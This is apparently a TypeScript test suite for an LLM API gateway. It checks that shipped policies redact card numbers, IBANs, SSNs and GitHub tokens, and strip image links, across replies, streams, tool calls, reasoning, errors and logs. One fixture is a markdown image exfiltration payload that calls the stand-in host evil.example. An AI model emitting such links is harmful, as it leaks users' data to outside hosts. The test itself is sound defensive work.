import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { clientTexts, everything } from '../support/client-texts.ts';
import { type FakeProvider, type FakeReply, startFakeProvider } from '../support/fake-provider.ts';
import { call, startGateway, type TestGateway } from '../support/gateway.ts';
import { wellFormed } from '../support/well-formed.ts';

const shipped = join(import.meta.dirname, '..', '..', 'policies');
let provider: FakeProvider;
let gateway: TestGateway;

beforeAll(async () => {
  provider = await startFakeProvider({ key: 'upstream-secret-key' });
  gateway = await startGateway({
    openai: provider.baseUrl,
    anthropic: provider.baseUrl,
    config: { policies: { path: shipped, enabled: ['security/*', 'compliance/*', 'content/*'], default: 'allow' } },
  });
});

beforeEach(() => provider.reset());

afterAll(async () => {
  await gateway.close();
  await provider.close();
});

const card = '4111 1111 1111 1111';
const key = `ghp_${'kD93hfUe02LsmPq7xZbT1vYw5cRnG8aJZz9Y'}`;
const iban = 'DE89370400440532013000';
const image = '![chart](https://evil.example/?q=stolen)';
const forbidden = [card, key, iban, image, '512-43-7788'];
const said = `Card ${card}, account ${iban}, SSN 512-43-7788; the key is ${key}. ${image} Write to jane@example.org!`;
const left =
  'Card [REDACTED:card], account [REDACTED:iban], SSN [REDACTED:us_ssn]; the key is [REDACTED:github_token]. ' +
  '[image removed] Write to jane@example.org!';
const input = { who: `The card ${card}`, [key]: 1, digits: 4111111111111111 };
const inputLeft = { who: 'The card [REDACTED:card]', '[REDACTED:github_token]': 1, digits: '[REDACTED:card]' };

const clients = [
  { client: 'openai-chat', path: '/v1/chat/completions' },
  { client: 'anthropic-messages', path: '/v1/messages' },
] as const;
const models = ['gpt-4o', 'claude-haiku-4-5'];

async function ask(path: string, model: string, stream: boolean, reply: FakeReply): Promise<Buffer> {
  provider.reply = () => reply;
  const messages = [{ role: 'user', content: 'What do you know?' }];
  const response = await call(gateway, path, { model, max_tokens: 500, stream, messages });
  expect(response.status).toBe(200);
  return Buffer.from(await response.arrayBuffer());
}

function expectClean(bytes: Buffer): void {
  for (const value of forbidden) expect(bytes.toString()).not.toContain(value);
  expect(bytes.toString()).not.toMatch(/4111|ghp_/);
  expect(provider.violations).toEqual([]);
}

describe.each(clients)('with the policies as shipped, a client of $client', ({ client, path }) => {
  describe.each(models)('of %s', (model) => {
    test('gets a plain reply without what is forbidden', async () => {
      const bytes = await ask(path, model, false, { text: said });
      expectClean(bytes);
      expect(clientTexts(client, false, bytes).get('0 content')).toBe(left);
    });

    test.each([1, 7, 1000, undefined])('gets a stream without it, in TCP pieces of %s bytes', async (tcp_bytes) => {
      for (const delta_characters of tcp_bytes === 1 ? [9] : [1, 4, 200]) {
        const bytes = await ask(path, model, true, {
          text: said,
          delta_characters,
          pings: true,
          ...(tcp_bytes === undefined ? {} : { tcp_bytes }),
        });
        expectClean(bytes);
        expect(clientTexts(client, true, bytes).get('0 content')).toBe(left);
        expect(wellFormed(client, bytes)).toBe('end');
      }
    });

    test('gets tool calls whose arguments are JSON and hold nothing of it', async () => {
      const reply: FakeReply = {
        tools: [
          { name: 'first', arguments: '{}' },
          { name: 'look', arguments: JSON.stringify(input) },
        ],
        delta_characters: 3,
      };
      for (const stream of [true, false]) {
        const bytes = await ask(path, model, stream, reply);
        expectClean(bytes);
        const texts = clientTexts(client, stream, bytes);
        expect(everything(texts.get('0 tool 1') ?? '')).toBe(everything(JSON.stringify(inputLeft)));
      }
    });
  });
});

describe('all choices and channels of one reply', () => {
  test('are held against the rules', async () => {
    const reply: FakeReply = {
      text: ['First, plain.', said],
      reasoning: `I think of ${card}, and go on.`,
      delta_characters: 5,
    };
    provider.reply = () => reply;
    const messages = [{ role: 'user', content: 'What do you know?' }];
    for (const stream of [true, false]) {
      const response = await call(gateway, '/v1/chat/completions', {
        model: 'gpt-4o',
        max_tokens: 500,
        n: 2,
        stream,
        messages,
      });
      const bytes = Buffer.from(await response.arrayBuffer());
      expectClean(bytes);
      const texts = clientTexts('openai-chat', stream, bytes);
      expect(texts.get('0 content')).toBe('First, plain.');
      expect(texts.get('1 content')).toBe(left);
      expect(texts.get('1 reasoning_content')).toBe('I think of [REDACTED:card], and go on.');
    }
  });

  test('signed reasoning is not edited: the reply ends', async () => {
    const reply: FakeReply = { text: 'The answer.', reasoning: `I think of ${card}, and go on.`, delta_characters: 5 };
    const bytes = await ask('/v1/messages', 'claude-haiku-4-5', true, reply);
    expectClean(bytes);
    expect(wellFormed('anthropic-messages', bytes)).toBe('end');
    expect(bytes.toString()).toContain('"stop_reason":"refusal"');
    expect(bytes.toString()).not.toContain('answer');
  });
});

describe('what a provider says instead of a reply', () => {
  test.each(clients)('holds nothing forbidden either: $client', async ({ path }) => {
    for (const model of models) {
      provider.reply = () => ({
        status: 400,
        error: { message: `cannot call the tool with ${card}`, code: 'tool_use_failed' },
      });
      const response = await call(gateway, path, { model, max_tokens: 9, messages: [{ role: 'user', content: 'Hi' }] });
      const body = await response.text();
      expect(response.status).toBe(400);
      expect(body).not.toContain('4111');
      expect(JSON.parse(body).error.message).toMatch(/may not be passed on/);
      provider.reply = () => ({ status: 400, error: { message: 'max_tokens is too large' } });
      const other = await call(gateway, path, { model, max_tokens: 9, messages: [{ role: 'user', content: 'Hi' }] });
      expect(await other.text()).toContain('max_tokens is too large');
    }
  });

  test('nor does an error in the middle of a stream', async () => {
    const middleError = { message: `failed while writing ${card}`, type: 'server_error' };
    for (const { path, client } of clients) {
      for (const model of models) {
        const bytes = await ask(path, model, true, {
          text: 'Many words that lead nowhere at all, one after the other.',
          middleError,
        });
        expectClean(bytes);
        expect(wellFormed(client, bytes)).toBe('error');
      }
    }
  });
});

test('the trail tells what was found and where, and holds none of it', async () => {
  await ask('/v1/chat/completions', 'gpt-4o', true, { text: said, delta_characters: 2 });
  const response = await call(gateway, '/v1/chat/completions', {
    model: 'gpt-4o',
    max_tokens: 9,
    messages: [{ role: 'user', content: `My card is ${card}, my key ${key}.` }],
  });
  expect(response.headers.get('x-llm-decision')).toBe('modify');
  expect(provider.requests.at(-1)?.bytes.toString()).not.toMatch(/4111|ghp_/);
  const data = join(gateway.directory, 'data');
  const files = readdirSync(data, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
  const all = files.map((entry) => readFileSync(join(entry.parentPath, entry.name), 'latin1')).join('\n');
  expect(all).toContain('github_token');
  expect(all).toContain('"type":"card"');
  for (const value of forbidden) expect(all).not.toContain(value);
});
